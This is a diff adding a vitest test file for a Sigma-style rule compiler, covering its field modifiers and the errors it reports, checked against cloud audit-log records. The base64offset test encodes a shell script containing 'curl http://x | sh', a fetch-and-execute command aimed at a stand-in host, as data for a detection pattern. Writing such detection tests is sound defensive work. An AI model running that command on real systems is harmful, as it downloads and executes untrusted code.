@@ -1,0 +1,145 @@
+import { describe, expect, it } from 'vitest';
+import { base64, base64Offsets } from './base64.ts';
+import { item, itemIssues } from '../testdata/compile-rule.ts';
+
+// Conformance of every supported modifier, alone and combined, and of the
+// problems reported for unknown, unsupported and inconsistent ones.
+describe('modifiers', () => {
+  it('contains, startswith and endswith wrap the value in wildcards (keeping its own)', () => {
+    expect(item('userAgent|contains', 'Boto3').matches({ userAgent: 'Python boto3/1.3' })).toBe(true);
+    expect(item('userAgent|contains', 'Boto3').matches({ userAgent: 'Python' })).toBe(false);
+    expect(item('userAgent|startswith', 'aws-cli').matches({ userAgent: 'AWS-CLI/2' })).toBe(true);
+    expect(item('userAgent|startswith', 'aws-cli').matches({ userAgent: 'x aws-cli' })).toBe(false);
+    expect(item('userAgent|endswith', '.exe').matches({ userAgent: 'C:\\tool.EXE' })).toBe(true);
+    expect(item('userAgent|endswith', '.exe').matches({ userAgent: 'tool.exe.bak' })).toBe(false);
+    expect(item('f|contains', 'a*c').matches({ f: 'xxabbbcxx' })).toBe(true);
+    expect(item('f|contains', 'a?c').matches({ f: 'xxabcxx' })).toBe(true);
+    expect(item('f|contains', '').matches({ f: 'anything' })).toBe(true);
+    expect(item('f|contains', 'x').matches({ f: 42 })).toBe(false);
+    expect(item('f|contains', '4').matches({ f: 142 })).toBe(true);
+  });
+
+  it('all: every value must match (the default is any)', () => {
+    const all = item('requestParameters|contains|all', ['"s3:GetObject"', '"Allow"']);
+    const policy = JSON.stringify({ Statement: [{ Effect: 'Allow', Action: 's3:GetObject' }] });
+    expect(all.matches({ requestParameters: { policyDocument: policy } })).toBe(true);
+    expect(all.matches({ requestParameters: { policyDocument: policy.replace('Allow', 'Deny') } })).toBe(false);
+    expect(item('requestParameters|contains', ['"s3:GetObject"', '"nope"']).matches({ requestParameters: { policyDocument: policy } })).toBe(true);
+    // Each value may match a different element of a multi-valued field.
+    expect(item('tags|all', ['a', 'b']).matches({ tags: ['a', 'b'] })).toBe(true);
+  });
+
+  it('cased: compare case-sensitively', () => {
+    expect(item('userIdentity.accessKeyId|startswith|cased', 'AKIA').matches({ userIdentity: { accessKeyId: 'AKIAXYZ' } })).toBe(true);
+    expect(item('userIdentity.accessKeyId|startswith|cased', 'AKIA').matches({ userIdentity: { accessKeyId: 'akiaxyz' } })).toBe(false);
+    expect(item('f|cased', 'Ab*').matches({ f: 'Abc' })).toBe(true);
+    expect(item('f|cased', 'Ab*').matches({ f: 'abc' })).toBe(false);
+  });
+
+  it('exists: the field is present (whatever its value, null included), or absent', () => {
+    const present = item('errorCode|exists', true);
+    const absent = item('errorCode|exists', false);
+    for (const value of ['', null, 'x', 0, false, {}, []]) {
+      expect(present.matches({ errorCode: value })).toBe(true);
+      expect(absent.matches({ errorCode: value })).toBe(false);
+    }
+    expect(present.matches({})).toBe(false);
+    expect(absent.matches({})).toBe(true);
+    expect(item('resources.ARN|exists', true).matches({ resources: [{}, { ARN: 'a' }] })).toBe(true);
+    expect(item('resources.ARN|exists', true).matches({ resources: [{}, {}] })).toBe(false);
+  });
+
+  it('re: an RE2 search anywhere in the value, case-sensitive unless i', () => {
+    const re = item('userIdentity.arn|re', '.+:assumed-role/aws:.+');
+    expect(re.matches({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } })).toBe(true);
+    expect(re.matches({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/AWS:ec2-instance/i-1' } })).toBe(false);
+    expect(item('f|re', 'b+').matches({ f: 'abbbc' })).toBe(true);
+    expect(item('f|re', '^b+$').matches({ f: 'abbbc' })).toBe(false);
+    expect(item('f|re|i', '^AB').matches({ f: 'abc' })).toBe(true);
+    expect(item('f|re', '^b$').matches({ f: 'a\nb\nc' })).toBe(false);
+    expect(item('f|re|m', '^b$').matches({ f: 'a\nb\nc' })).toBe(true);
+    expect(item('f|re', 'a.c').matches({ f: 'a\nc' })).toBe(false);
+    expect(item('f|re|s', 'a.c').matches({ f: 'a\nc' })).toBe(true);
+    expect(item('f|re', '^4\\d$').matches({ f: 42 })).toBe(true);
+  });
+
+  it('cidr: an IPv4 or IPv6 address inside the range; a service name never is', () => {
+    const v4 = item('sourceIPAddress|cidr', '203.0.113.0/24');
+    expect(v4.matches({ sourceIPAddress: '203.0.113.9' })).toBe(true);
+    expect(v4.matches({ sourceIPAddress: '203.0.114.9' })).toBe(false);
+    expect(v4.matches({ sourceIPAddress: 'bedrock.amazonaws.com' })).toBe(false);
+    expect(item('sourceIPAddress|cidr', ['10.0.0.0/8', '2001:db8::/32']).matches({ sourceIPAddress: '2001:db8::1' })).toBe(true);
+  });
+
+  it('base64 and base64offset: match the encoded value, at any offset for base64offset', () => {
+    expect(base64('whoami')).toBe('d2hvYW1p');
+    expect(base64Offsets('whoami')).toEqual(['d2hvYW1p', 'dob2Fta', '3aG9hbW']); // as pySigma computes them
+    const plain = item('requestParameters.userData|base64', 'whoami');
+    expect(plain.matches({ requestParameters: { userData: 'd2hvYW1p' } })).toBe(true);
+    const offset = item('requestParameters.userData|base64offset|contains', 'curl http');
+    for (const prefix of ['', 'a', 'ab', 'abc']) {
+      const encoded = Buffer.from(`#!/bin/sh\n${prefix}curl http://x | sh`).toString('base64');
+      expect(offset.matches({ requestParameters: { userData: encoded } })).toBe(true);
+    }
+    expect(offset.matches({ requestParameters: { userData: Buffer.from('wget http://x').toString('base64') } })).toBe(false);
+  });
+
+  it('gt, gte, lt, lte: compare numbers (numeric strings too)', () => {
+    const record = (n: unknown): unknown => ({ requestParameters: { maxResults: n } });
+    expect(item('requestParameters.maxResults|gt', 10).matches(record(11))).toBe(true);
+    expect(item('requestParameters.maxResults|gt', 10).matches(record(10))).toBe(false);
+    expect(item('requestParameters.maxResults|gte', 10).matches(record('10'))).toBe(true);
+    expect(item('requestParameters.maxResults|lt', 10).matches(record(9.5))).toBe(true);
+    expect(item('requestParameters.maxResults|lt', 10).matches(record(10))).toBe(false);
+    expect(item('requestParameters.maxResults|lte', 10).matches(record(10))).toBe(true);
+    expect(item('requestParameters.maxResults|lte', 10).matches(record('ten'))).toBe(false);
+    expect(item('requestParameters.maxResults|lte', 10).matches({})).toBe(false);
+  });
+
+  it('fieldref: compare with another field of the same record', () => {
+    const same = item('userIdentity.userName|fieldref', 'requestParameters.userName');
+    expect(same.matches({ userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
+    expect(same.matches({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } })).toBe(false);
+    expect(same.matches({ userIdentity: { userName: 'alice' }, requestParameters: {} })).toBe(false);
+    const contains = item('userIdentity.arn|fieldref|contains', 'requestParameters.userName');
+    expect(contains.matches({ userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
+    expect(item('a|fieldref|cased', 'b').matches({ a: 'X', b: 'x' })).toBe(false);
+  });
+
+  it('windash: a flag dash also matches /, en dash, em dash and horizontal bar', () => {
+    const test = item('userAgent|windash|contains', ' -enc ');
+    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(test.matches({ userAgent: `tool ${dash}enc x` })).toBe(true);
+    expect(test.matches({ userAgent: 'tool +enc x' })).toBe(false);
+    expect(item('f|windash', 'us-east-1').matches({ f: 'us-east-1' })).toBe(true);
+  });
+
+  it('report an unknown modifier as invalid, naming it', () => {
+    expect(itemIssues('eventName|contians', 'x')).toEqual([{ kind: 'invalid', path: ['detection', 'selection', 'eventName|contians'], message: 'unknown modifier "contians"' }]);
+  });
+
+  it('report an unsupported modifier, naming it', () => {
+    for (const modifier of ['expand', 'utf16le', 'wide', 'neq', 'hour']) {
+      const issues = itemIssues(`f|${modifier}`, 'x');
+      expect(issues.map((i) => i.kind)).toEqual(['unsupported']);
+      expect(issues[0]!.message).toContain(`unsupported modifier "${modifier}"`);
+    }
+  });
+
+  it('report inconsistent modifier chains and values of the wrong kind', () => {
+    const invalid = (key: string, value: unknown): string[] => itemIssues(key, value).map((i) => `${i.kind}: ${i.message}`);
+    expect(invalid('f|contains|startswith', 'x')).toEqual(['invalid: "startswith" and "contains" cannot be combined']);
+    expect(invalid('f|re|contains', 'x')).toEqual(['invalid: "re" cannot be combined with "contains"']);
+    expect(invalid('f|contains|base64', 'x')).toEqual(['invalid: "base64" must come before "contains": the value is encoded first, then searched for']);
+    expect(invalid('f|i', 'x')).toEqual(['invalid: the regular expression flags i, m and s need the "re" modifier']);
+    expect(invalid('f|gt', 'ten')).toEqual(['invalid: "gt" compares numbers, got "ten"']);
+    expect(invalid('f|cidr', '10.0.0.0/33')[0]).toContain('"cidr" needs an IPv4 or IPv6 range');
+    expect(invalid('f|exists', 'yes')).toEqual(['invalid: "exists" takes one value, true or false']);
+    expect(invalid('f|re', '(a)\\1')[0]).toContain('invalid or unsupported regular expression');
+    expect(invalid('f|re', '(?=a)')[0]).toContain('invalid or unsupported regular expression');
+    expect(invalid('f|base64', 'a*')).toEqual(['invalid: "base64" cannot encode a value with wildcards; escape "*" and "?" with a backslash']);
+    expect(invalid('f|contains', null)).toEqual(['invalid: null matches a missing or null field and takes no modifier']);
+    expect(invalid('f', [])).toEqual(['invalid: the list of values is empty, so nothing could ever match']);
+    expect(invalid('f', { nested: 1 })).toEqual(['invalid: a value must be a string, number, boolean or null, got a mapping']);
+    expect(invalid('f||contains', 'x')).toEqual(['invalid: empty modifier (two "|" in a row)']);
+  });
+});
